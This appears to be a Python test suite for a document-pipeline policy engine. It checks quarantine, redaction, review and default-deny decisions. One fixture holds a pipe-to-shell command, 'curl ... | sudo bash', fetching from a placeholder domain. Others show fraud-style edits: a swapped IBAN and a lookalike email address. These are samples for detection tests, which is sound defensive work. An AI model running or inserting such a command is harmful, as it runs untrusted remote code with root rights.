"""The policy engine, and the policy that ships."""

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.domain.documents.documents import Action, Change, ChangeKind
from pipeline.domain.errors import PolicyError
from pipeline.domain.findings.findings import Finding, FindingKind, Severity, scan_failure
from pipeline.domain.identity.permissions import Classification
from pipeline.domain.policy.impact import assess
from pipeline.domain.policy.policy import DEFAULT_DENY, Policy, PolicyRule
from pipeline.domain.policy.policy_context import plain_text_context, recorded_change
from pipeline.settings.files import load_policy
from pipeline.settings.home import default_configs

SHIPPED = load_policy(default_configs() / "policy.yaml")
FINDINGS = st.builds(
    Finding,
    kind=st.sampled_from(FindingKind),
    detector=st.just("test.rule"),
    entity=st.sampled_from(["EMAIL_ADDRESS", "PASSWORD", "PERSON"]),
    severity=st.sampled_from(Severity),
    confidence=st.floats(0, 1),
    start=st.integers(0, 5),
    end=st.integers(5, 9),
    line=st.just(1),
    fingerprint=st.just("f" * 32),
    preview=st.just(""),
)


def finding(kind: FindingKind, severity: Severity = Severity.HIGH, confidence: float = 0.9) -> Finding:
    return Finding(
        kind=kind, detector="test.rule", entity="THING", severity=severity, confidence=confidence,
        start=0, end=4, line=1, fingerprint="f" * 32, preview="",
    )  # fmt: skip


def judged(
    findings: list[Finding], classification: str = "internal", *, approved: bool = False, **facts: Any
) -> tuple[Action, tuple[str, ...]]:
    """Action and rules of the shipped policy; facts are `document_…` and `change_…`."""
    document, change = plain_text_context("text", Classification(classification))
    for name, value in facts.items():
        target, _, field = name.partition("_")
        {"document": document, "change": change}[target][field] = value
    verdict = SHIPPED.decide(findings, document, change, approved=approved)
    return verdict.action, verdict.rule_ids


def policy(*rules: tuple[str, str, str, str]) -> Policy:
    return Policy.model_validate(
        {
            "schema_version": 1,
            "version": 1,
            "changelog": [{"version": 1, "date": "2026-01-01", "by": "test", "note": "test"}],
            "rules": [
                {"id": name, "each": each, "when": when, "action": action, "reason": "a reason for people"}
                for name, each, when, action in rules
            ],
        }
    )


def test_a_clean_document_of_an_approved_source_is_admitted() -> None:
    assert judged([]) == (Action.ADMIT, ("tagged-and-scanned",))


@pytest.mark.parametrize("kind", [FindingKind.SECRET, FindingKind.HIDDEN_TEXT, FindingKind.INJECTION])
def test_overt_findings_keep_a_document_out(kind: FindingKind) -> None:
    assert judged([finding(kind)])[0] is Action.QUARANTINE


@pytest.mark.parametrize(
    ("severity", "action"),
    [(Severity.LOW, Action.ADMIT), (Severity.MEDIUM, Action.REVIEW), (Severity.HIGH, Action.REVIEW)],
)
def test_a_part_that_was_not_read_waits_for_a_person_unless_it_is_slight(severity: Severity, action: Action) -> None:
    unread = finding(FindingKind.HIDDEN_TEXT, severity).model_copy(update={"entity": "UNREAD_PART"})
    assert judged([unread])[0] is action


def test_words_of_a_picture_that_could_hardly_be_read_wait_for_a_person() -> None:
    doubtful = finding(FindingKind.HIDDEN_TEXT, Severity.HIGH).model_copy(update={"entity": "DOUBTFUL_OCR"})
    assert judged([doubtful])[0] is Action.REVIEW


@pytest.mark.parametrize("classification", list(Classification))
def test_structured_personal_data_is_redacted_where_many_can_read(classification: Classification) -> None:
    assert judged([finding(FindingKind.PII)], classification, change_kind="unchanged")[0] is Action.REDACT


def test_structured_personal_data_stays_in_confidential_documents_read_by_few() -> None:
    document, change = plain_text_context("text", Classification.CONFIDENTIAL)
    document |= {"allow": ["user:ada"], "readers": 1}
    verdict = SHIPPED.decide([finding(FindingKind.PII)], document, change)
    assert (verdict.action, verdict.tags, verdict.redact) == (Action.ADMIT, ("contains-pii",), ())


@pytest.mark.parametrize(
    "facts",
    [
        {"change_access_widened": True},
        {"change_classification_lowered": True},
        {"document_source_state": "narrowed"},
        {"change_kind": "modified", "change_impact": 90},
    ],
)
def test_high_impact_changes_wait_for_a_person(facts: dict[str, Any]) -> None:
    assert judged([], **facts)[0] is Action.REVIEW


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("", "## Set-up\nType `curl -sSL https://get.tides.example/i | sudo bash` first.", "command-from-new-domain"),
        ("IBAN DE89 3704 0044 0532 0130 00.", "IBAN GB33 BUKB 2020 1555 5555 55.", "account-changed"),
        ("Write to pay@harbour.example.", "Write to pay@harb0ur.example.", "contact-replaced"),
        ("Crew must not sail alone.", "Crew may sail alone.", "negation-flipped"),
    ],
)
def test_a_small_edit_that_misleads_waits_for_a_person_whatever_the_total(old: str, new: str, rule: str) -> None:
    page = "The harbour office keeps the tide table.\n" * 40
    change = Change(kind=ChangeKind.MODIFIED, doc_id="s:a")
    impact = assess(change, f"{page}{old}\n", f"{page}{new}\n", policy=SHIPPED.impact)
    assert impact.score < 70
    document, _ = plain_text_context(new, Classification.PUBLIC)
    verdict = SHIPPED.decide([], document, recorded_change(ChangeKind.MODIFIED, impact))
    assert (verdict.action, verdict.rule_ids) == (Action.REVIEW, (rule,))


def test_every_change_of_a_restricted_document_waits_for_a_person() -> None:
    assert judged([], "restricted")[0] is Action.REVIEW
    assert judged([], "restricted", approved=True)[0] is Action.ADMIT


def test_an_approval_lifts_review_and_nothing_more_severe() -> None:
    assert judged([finding(FindingKind.SECRET)], "restricted", approved=True)[0] is Action.QUARANTINE


def test_law_02_untagged_documents_are_quarantined_even_when_approved() -> None:
    assert judged([], document_problems=["No classification."], approved=True)[0] is Action.QUARANTINE
    assert judged([], document_allow=[])[0] is Action.QUARANTINE


@given(st.lists(FINDINGS, max_size=5), st.booleans())
def test_law_03_no_policy_admits_a_failed_scan(findings: list[Finding], approved: bool) -> None:
    lenient = policy(("everything", "finding", "true", "admit"), ("all", "document", "true", "admit"))
    document, change = plain_text_context("text", Classification.PUBLIC)
    for rules in (lenient, SHIPPED):
        verdict = rules.decide([*findings, scan_failure("secrets", "timeout")], document, change, approved=approved)
        assert verdict.action in (Action.QUARANTINE, Action.REJECT)


def test_the_reason_of_a_failed_scan_says_what_failed_and_names_its_rule_once() -> None:
    document, change = plain_text_context("text", Classification.PUBLIC)
    failed = [scan_failure("extraction", "encrypted"), scan_failure("pii", "timeout")]
    verdict = SHIPPED.decide(failed, document, change)
    assert verdict.rule_ids == ("scan-failed",)
    assert "is encrypted" in verdict.reasons[0]
    assert "personal data took longer" in verdict.reasons[0]


@given(st.lists(FINDINGS, max_size=4))
def test_default_deny_without_a_rule(findings: list[Finding]) -> None:
    document, change = plain_text_context("text", Classification.PUBLIC)
    verdict = policy(("never", "document", "false", "admit")).decide(findings, document, change)
    assert verdict.action is Action.QUARANTINE
    assert DEFAULT_DENY in verdict.rule_ids


@given(st.lists(FINDINGS, max_size=5))
def test_more_findings_never_make_a_milder_verdict(findings: list[Finding]) -> None:
    ranks = [judged(findings[:count])[0].rank for count in range(len(findings) + 1)]
    assert ranks == sorted(ranks)


@given(FINDINGS)
def test_the_shipped_policy_knows_what_to_do_with_every_finding(found: Finding) -> None:
    document, change = plain_text_context("text", Classification.INTERNAL)
    rule = SHIPPED.finding_rule(found, document, change)
    assert rule is not None
    assert rule.id in {shipped.id for shipped in SHIPPED.rules}
    assert SHIPPED.finding_action(found, document, change) is rule.action
    certain = found.severity.rank >= Severity.HIGH.rank and found.confidence >= 0.9
    assert not (certain and rule.action is Action.ADMIT), "a certain and severe finding is never admitted"


@pytest.mark.parametrize(
    ("when", "complaint"),
    [
        ("finding.kind ==", "does not parse"),
        ("finding.kidn == 'x'", "finding.kidn"),
        ("document.size > 3", "document.size"),
        ("weather.sunny", "weather"),
        ("findings.size() > 1", "findings"),
        ("finding.confidence", "not true or false"),
        ("finding.kind > 3", "cannot be evaluated"),
    ],
)
def test_a_wrong_condition_is_an_error_that_names_the_rule(when: str, complaint: str) -> None:
    rule = PolicyRule(id="wrong", each="finding", when=when, action=Action.ADMIT, reason="a reason for people")
    with pytest.raises(PolicyError, match=complaint) as caught:
        _ = rule.program
    assert "'wrong'" in caught.value.what


def test_the_error_names_file_and_line(tmp_path: Path) -> None:
    text = (default_configs() / "policy.yaml").read_text("utf-8")
    line = next(number for number, content in enumerate(text.splitlines(), 1) if "id: access-widened" in content)
    (tmp_path / "policy.yaml").write_text(text.replace("when: change.access_widened", "when: change.widened"), "utf-8")
    with pytest.raises(PolicyError, match=rf"policy\.yaml, line {line}: .*change\.widened"):
        load_policy(tmp_path / "policy.yaml")


def test_the_digest_follows_the_rules_not_the_changelog() -> None:
    one = policy(("a", "document", "true", "admit"))
    noted = one.model_copy(update={"changelog": one.changelog * 2})
    assert Policy.model_validate(noted.model_dump()).digest == one.digest
    assert policy(("a", "document", "false", "admit")).digest != one.digest


def test_law_09_a_version_that_empties_a_served_one_waits_under_every_policy() -> None:
    document, change = plain_text_context("text", Classification.INTERNAL)
    change["emptied"] = True
    lenient = policy(("anything", "document", "true", "admit"))
    verdict = lenient.decide([], document, change)
    assert (verdict.action, verdict.rule_ids) == (Action.REVIEW, ("emptied",))
    assert lenient.decide([], document, change, approved=True).action is Action.ADMIT
    strict = policy(("nothing", "document", "true", "quarantine"))
    assert strict.decide([], document, change).rule_ids == ("nothing",)
